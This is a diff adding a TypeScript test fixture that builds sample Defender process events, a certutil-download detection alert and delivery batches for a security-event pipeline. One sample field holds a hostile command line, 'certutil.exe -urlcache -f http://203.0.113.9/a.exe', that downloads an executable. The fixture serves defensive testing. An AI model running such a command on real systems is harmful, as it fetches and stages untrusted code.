@@ -1,0 +1,66 @@
+import type { Batch, Delivery, Destination } from '../../src/destinations/port.ts';
+import type { Envelope } from '../../src/shared/event.ts';
+
+const TENANT = '11111111-2222-3333-4444-555555555555';
+
+/** A believable envelope; `over` replaces parts of it. */
+export function envelope(number: number, over: Partial<Envelope> = {}): Envelope {
+  return {
+    id: number.toString(16).padStart(32, '0'),
+    time: '2026-11-23T07:01:02.1234567Z',
+    received: '2026-11-23T07:03:00.0000000Z',
+    tenant: TENANT,
+    table: 'DeviceProcessEvents',
+    event: {
+      Timestamp: '2026-11-23T07:01:02.1234567Z',
+      DeviceId: 'd3adb33fd3adb33fd3adb33fd3adb33fd3adb33f',
+      DeviceName: 'ws-042.contoso.example',
+      AccountUpn: 'alice@contoso.example',
+      FileName: 'certutil.exe',
+      InitiatingProcessFileName: 'cmd.exe',
+      ProcessCommandLine: 'certutil.exe -urlcache -f http://203.0.113.9/a.exe',
+      ReportId: number,
+    },
+    source: {
+      blob: `insights-logs-advancedhunting-deviceprocessevents/tenantId=${TENANT}/y=2026/m=11/d=23/h=07/m=00/PT1H.json`,
+      offset: number * 1_650,
+    },
+    ...over,
+  };
+}
+
+/** The same with a rule: an alert. */
+export function alert(number: number, over: Partial<Envelope> = {}): Envelope {
+  return envelope(number, {
+    severity: 'high',
+    rule: {
+      title: 'Download with certutil',
+      id: 'e011a729-98a6-4139-b5c4-bf6f6dd8239a',
+      description: 'certutil fetches a file, which administrators seldom do.',
+      tags: ['attack.command-and-control', 'attack.t1105'],
+      falsepositives: ['Certificate roll-outs'],
+      matched: [{ column: 'FileName', value: 'certutil.exe' }],
+    },
+    ...over,
+  });
+}
+
+/** A delivery whose raw row is a Defender row. */
+export function deliveryOf(made: Envelope): Delivery {
+  return {
+    envelope: made,
+    raw: () =>
+      JSON.stringify({
+        time: made.received,
+        tenantId: made.tenant,
+        operationName: 'Publish',
+        category: `AdvancedHunting-${made.table}`,
+        properties: made.event,
+      }),
+  };
+}
+
+/** A batch as delivery/ would make it. */
+export function batchOf(destination: Destination, envelopes: readonly Envelope[], id = 'msg_1'): Batch {
+  return { id, items: envelopes.map((made) => destination.encode(deliveryOf(made))) };
+}
